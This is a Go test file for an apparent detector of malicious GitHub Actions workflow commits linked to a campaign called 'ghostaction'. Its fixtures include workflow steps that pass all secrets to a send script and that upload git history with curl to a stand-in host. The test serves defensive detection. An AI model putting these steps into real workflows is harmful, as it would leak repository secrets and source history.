package detect

import (
	"strings"
	"testing"

	"pentimento/internal/evidence"
)

func TestSuspects(t *testing.T) {
	_, packs := known(t)
	const everyday = ".github/workflows/security-audit.yml"
	base := made{id: "base", message: "Work\n", files: map[string]string{".github/workflows/ci.yml": "reads"}}
	with := func(path, version, message string) []made {
		return []made{base, {id: "c", parents: []string{"base"}, message: message,
			files: map[string]string{".github/workflows/ci.yml": "reads", path: version}}}
	}
	unhit := map[evidence.OID]Unhit{}
	for name, text := range map[string]string{
		"reads":  run("./build.sh ${{ secrets.A }}"),
		"hidden": run("./send.sh ${{ toJSON(secrets) }}"),
		"mines":  run("git log -p > h\ncurl -T h https://drop.example.invalid/v1/up"),
		"token":  run("gh pr list # ${{ secrets.GITHUB_TOKEN }}"),
		"broken": "on: [push\njobs: ${{ secrets.A }}\n",
		"plain":  run("make"),
	} {
		f, rest, hit := NewExaminer(packs).Examine(Version{Blob: oid("b", name), Text: []byte(text)})
		if hit {
			t.Fatalf("%s: %+v", name, f)
		}
		unhit[oid("b", name)] = rest
	}
	for name, c := range map[string]struct {
		commits []made
		want    string // what stands in the reason; empty for no suspect
	}{
		"at the campaign's own path":        {with(listed, "hidden", "Work\n"), "a path of campaign ghostaction"},
		"mines history at its path":         {with(listed, "mines", "Work\n"), "a path of campaign ghostaction"},
		"no secrets there":                  {with(listed, "plain", update), ""},
		"the job's own token there":         {with(listed, "token", update), ""},
		"at an everyday path":               {with(everyday, "hidden", "Work\n"), ""},
		"at an everyday path, its message":  {with(everyday, "hidden", update+"\n"), "a message of campaign ghostaction"},
		"at whatever path, its message":     {with(".github/workflows/x.yml", "hidden", update), "a message of campaign ghostaction"},
		"what was there before its message": {with(".github/workflows/x.yml", "plain", update), ""},
		"could not be read in full":         {with(".github/workflows/x.yml", "broken", "Work\n"), "could not be read in full: not YAML"},
		"parent not had, its message": {[]made{{id: "base", unseen: true}, {id: "c", parents: []string{"base"}, message: scan,
			files: map[string]string{".github/workflows/ci.yml": "reads"}}}, ""},
		"parent not had, its message, everyday path": {[]made{{id: "base", unseen: true}, {id: "c", parents: []string{"base"}, message: scan,
			files: map[string]string{everyday: "reads"}}}, "a message of campaign ghostaction"},
	} {
		got := Suspects(invent(t, c.commits), unhit, packs)
		switch {
		case c.want == "" && len(got) > 0, c.want != "" && len(got) != 1:
			t.Errorf("%s: %+v", name, got)
		case c.want != "" && !strings.Contains(got[0].Why, c.want):
			t.Errorf("%s: %s", name, got[0].Why)
		}
	}
}
